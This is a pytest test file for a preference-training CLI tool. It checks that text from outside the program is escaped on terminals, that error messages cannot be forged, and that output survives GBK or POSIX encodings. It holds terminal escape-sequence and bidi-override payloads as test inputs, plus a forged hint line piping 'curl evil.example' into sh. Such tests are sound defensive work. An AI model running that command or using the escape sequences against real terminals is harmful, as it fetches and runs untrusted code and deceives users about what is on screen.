"""What comes from outside is shown, never obeyed, on any terminal; and an encoding that lacks it ends no command."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from dpo_cli.cli import app
from dpo_cli.errors import DpoError
from dpo_cli.recipe import json_schema
from dpo_cli.show import one_line, visible
from dpo_cli.terminal import terminal
from typer.testing import CliRunner, Result

OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
HOSTILE = {
    "erase": "before\x1b[2Jafter",
    "title": "before\x1b]0;title\x07after",
    "C1": "before\x9b31mafter",
    "backspaces": "before\x08\x08after",
    "return": "before\rafter",
    "override": "before\u202eafter",
    "isolate": "before\u2066after\u2069",
    "line separator": "before\u2028after",
}
FORGED = "evil\n  where: demo.yaml:1\n  fix:   curl evil.example | sh"


@pytest.fixture
def invoke() -> Callable[..., Result]:
    return lambda *arguments: CliRunner().invoke(app, [str(argument) for argument in arguments])


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_what_a_terminal_obeys_is_escaped(text: str) -> None:
    assert visible("\x1b \u202e \udcff") == "\\x1b \\u202e \\udcff"
    for shown in (visible(text), one_line(text)):
        assert not OBEYED.search(shown)
        assert shown.startswith("before") and "after" in shown


@pytest.mark.parametrize(
    "text", ["中文，标点。", "emoji 🙂", "a\ttab", "two\nlines", "عربي", "back\\slash", "naïve", ""]
)
def test_what_people_write_stays(text: str) -> None:
    assert visible(text) == text


def test_a_table_shows_cells_and_markup_as_they_are() -> None:
    from rich.table import Table
    from rich.text import Text

    table = Table("a[bold]b", "a[/x]b", ":smile:")
    table.add_row("中文", Text("x\x1b[2Jy", style="red"), "\u202ez")
    for on_a_terminal in (True, False):
        file = io.StringIO()
        terminal(file=file, force_terminal=on_a_terminal, width=60).print(table, "[/nothing]\x9b")
        shown = file.getvalue()
        for part in ("a[bold]b", "a[/x]b", ":smile:", "中文", "x\\x1b[2Jy", "\\u202ez", "[/nothing]\\x9b"):
            assert part in shown
        assert ("\x1b[" in shown) == on_a_terminal  # our own style
        assert "\x1b[2J" not in shown


# ------------------------------------------------------------------------------------------------------------ errors


def test_an_error_is_one_block_whatever_is_in_it() -> None:
    """A server's reply, a column's name, a library's message: none can look like a line of ours."""
    shown = str(DpoError(f"HTTP 400: {FORGED}\x1b[2J", where=FORGED, hint=f"look at {FORGED}"))
    lines = shown.splitlines()
    assert len(lines) == 3
    assert [line[:9] for line in lines[1:]] == ["  where: ", "  fix:   "]
    assert not OBEYED.search(shown)


def test_details_are_lines_of_their_own() -> None:
    assert str(DpoError("two mistakes", details=["one", "  its\nproblem"], hint="do")).splitlines() == [
        "two mistakes", "  one", "    its problem", "  fix:   do",
    ]  # fmt: skip


@pytest.mark.parametrize("debug", [[], ["--debug"]])
def test_column_names_are_shown_in_errors(project: Any, invoke: Any, debug: list[str]) -> None:
    row = {f"x{text}": 1 for text in HOSTILE.values()}
    (project.rows / "a.jsonl").write_text(json.dumps(row) + "\n", encoding="utf-8")
    done = invoke("prepare", project.recipe, *debug)
    assert done.exit_code in (1, 2)
    assert done.stderr.count("before") >= len(HOSTILE)
    assert not OBEYED.search(done.output)


# ----------------------------------------------------------------------------------------------------- names and rows

NAMES = ["a[bold]b/c", ":smile: 中文", "a\\[b]"]


@pytest.mark.parametrize("name", NAMES)
def test_a_sources_name_is_shown_as_it_is(project: Any, invoke: Any, name: str) -> None:
    settings = [
        "--set",
        f"data.sources={json.dumps([{'id': './rows', 'name': name, 'layout': 'pairs', 'language': 'en'}])}",
    ]
    model = ["--set", "model.id=builtin:tiny-qwen3", "--set", "model.load_in_4bit=false"]
    done = invoke("prepare", project.recipe, *settings, *model, "--examples", "--preview", "1")
    assert done.exit_code == 0, done.output
    shown = done.stdout.splitlines()
    assert any(line.startswith(f" • {name}: ") for line in shown)  # --examples
    assert any(name in line for line in shown if line.startswith("1 "))  # --preview
    assert any(name in line for line in shown if line.startswith(" • layouts"))  # the funnel
    assert "nothing to do" in invoke("prepare", project.recipe, *settings, *model).stdout


def test_rows_are_shown_in_previews_and_examples(project: Any, invoke: Any) -> None:
    path = project.rows / "a.jsonl"
    rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    every = " ".join(HOSTILE.values())
    hostile = [{name: f"{every} {value} {every}" for name, value in row.items()} for row in rows]
    path.write_text("".join(json.dumps(row) + "\n" for row in hostile), encoding="utf-8")
    settings = ["--set", "data.filters={garbled: false, too_long: false}"]
    model = ["--set", "model.id=builtin:tiny-qwen3", "--set", "model.load_in_4bit=false"]
    done = invoke("prepare", project.recipe, *settings, *model, "--examples", "--preview", "2")
    assert done.exit_code == 0, done.output
    assert done.stdout.count("before") > 8
    assert not OBEYED.search(done.output)


def test_file_names_that_are_not_utf8(project: Any, invoke: Any) -> None:
    raw = os.fsencode(project.rows)
    Path(os.fsdecode(raw + b"/a.jsonl")).rename(os.fsdecode(raw + b"/\xff\xfe.jsonl"))
    done = invoke("prepare", project.recipe)
    assert done.exit_code == 0, done.output
    assert "nothing to do" in invoke("prepare", project.recipe).stdout


# --------------------------------------------------------------------------------------------------------- encodings

ENCODINGS: dict[str, dict[str, str]] = {
    "gbk": {"PYTHONIOENCODING": "gbk"},
    "POSIX": {"LC_ALL": "POSIX", "PYTHONCOERCECLOCALE": "0"},
}


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_no_encoding_ends_a_command(project: Any, dpo_cli: Any, encoding: str) -> None:
    rows = [
        {"prompt": f"第{n}个问题：什么是{n}？—🙂", "chosen": f"答案是{n}" * 9, "rejected": f"不知道{n}" * 8}
        for n in range(30)
    ]
    (project.rows / "a.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    environment = {name: value for name, value in os.environ.items() if name != "PYTHONIOENCODING"}
    settings = ["--set", "name=中文—🙂", "--set", "data.sources=[{id: ./rows, name: 来源, layout: pairs}]"]
    for command in (
        ["check", "--all"],
        ["prepare", "--examples"],
        ["prepare"],
        ["eval"],
        ["prepare", "--set", "data.来源=1"],
    ):
        done = dpo_cli(command[0], "demo.yaml", *settings, *command[1:], env=environment | ENCODINGS[encoding],
                       errors="replace")  # fmt: skip
        failed = command[0] == "eval" or "data.来源=1" in command
        assert done.returncode == ({"eval": 1}.get(command[0], 2) if failed else 0), done.stderr
        assert "UnicodeEncodeError" not in done.stderr
        assert done.stderr.startswith("error: ") if failed else not done.stderr
    assert (project.folder / "runs" / "中文—🙂" / "data" / "train.jsonl").is_file()


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_what_a_program_reads_comes_without_loss(project: Any, dpo_cli: Any, encoding: str) -> None:
    environment = {name: value for name, value in os.environ.items() if name != "PYTHONIOENCODING"}
    environment |= ENCODINGS[encoding]
    codec = "utf-8" if encoding == "POSIX" else encoding  # Python itself takes UTF-8 where the locale is POSIX
    project.recipe.write_text("name: 中文—🙂\n" + project.recipe.read_text(encoding="utf-8"), encoding="utf-8")
    command = [sys.executable, "-m", "dpo_cli"]
    checked = subprocess.check_output([*command, "check", "--all", "demo.yaml"], env=environment).decode(codec)
    assert yaml.safe_load(checked)["name"] == "中文—🙂"
    schema = subprocess.check_output([*command, "schema"], env=environment).decode(codec)
    assert json.loads(schema) == json_schema()
